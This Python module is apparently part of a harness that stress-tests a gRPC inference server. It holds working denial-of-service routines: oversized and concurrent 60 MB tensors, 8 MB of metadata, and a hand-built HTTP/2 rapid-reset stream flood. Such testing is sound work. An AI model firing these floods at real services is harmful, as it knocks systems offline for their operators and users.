"""The same over gRPC, and what HTTP/2 adds to it."""

import contextlib
import struct
from collections.abc import Iterator
from functools import cache

import grpc

from attacks.attacker import HOST, Attack, Pace, Ports, connected, varint

_INFER = "/inference.GRPCInferenceService/ModelInfer"
_BIG = 60 << 20


@cache
def _message(model: bytes, size: int) -> bytes:
    """A tensor of a wrong size."""
    tensor = b"\x0a\x01x\x12\x05UINT8\x1a\x02\x01\x05"
    start = b"\x0a" + varint(len(model)) + model + b"\x2a" + varint(len(tensor)) + tensor
    return start + b"\x3a" + varint(size) + bytes(size)


@contextlib.contextmanager
def _channel(ports: Ports) -> Iterator[grpc.Channel]:
    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
    with grpc.insecure_channel(f"{HOST}:{ports.grpc}", options=options) as made:
        yield made


def wrong_size(ports: Ports, pace: Pace) -> None:
    """One after the other."""
    with _channel(ports) as channel:
        for model in (b"free", b"nobody") * 3:
            with contextlib.suppress(grpc.RpcError):
                channel.unary_unary(_INFER)(_message(model, 30 << 20), timeout=5)
            pace.rest()


def large_messages(ports: Ports, pace: Pace) -> None:
    """Twenty at the same time, for a model that takes 512 bytes."""
    with _channel(ports) as channel:
        calls = []
        for _ in range(20):
            calls.append(channel.unary_unary(_INFER).future(_message(b"fast", _BIG), timeout=5))
            pace.rest()
        for call in calls:
            with contextlib.suppress(grpc.RpcError):
                call.result()
            pace.rest()


def large_metadata(ports: Ports, pace: Pace) -> None:
    with _channel(ports) as channel:
        for _ in range(10):
            with contextlib.suppress(grpc.RpcError):
                channel.unary_unary(_INFER)(b"", timeout=5, metadata=[("x-much", "y" * (8 << 20))])
            pace.rest()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


_HEAD = b"".join(
    _literal(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", _INFER.encode()),
        (b":authority", b"x"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    )
)


def rapid_resets(ports: Ports, pace: Pace) -> None:
    """Streams that are reset as soon as they are opened."""
    with connected(ports.grpc) as client:
        client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
        for first in range(1, 20_001, 200):
            streams = range(first, first + 200, 2)
            opened = (_frame(1, 4, s, _HEAD) + _frame(3, 0, s, b"\0\0\0\x08") for s in streams)
            client.sendall(b"".join(opened))
            pace.rest()


ATTACKS = {
    "gRPC: 30 MB of a wrong size": Attack(wrong_size),
    "gRPC: 20 × 60 MB at once": Attack(large_messages),
    "gRPC: 8 MB of metadata": Attack(large_metadata),
    "gRPC: rapid resets": Attack(rapid_resets),
}
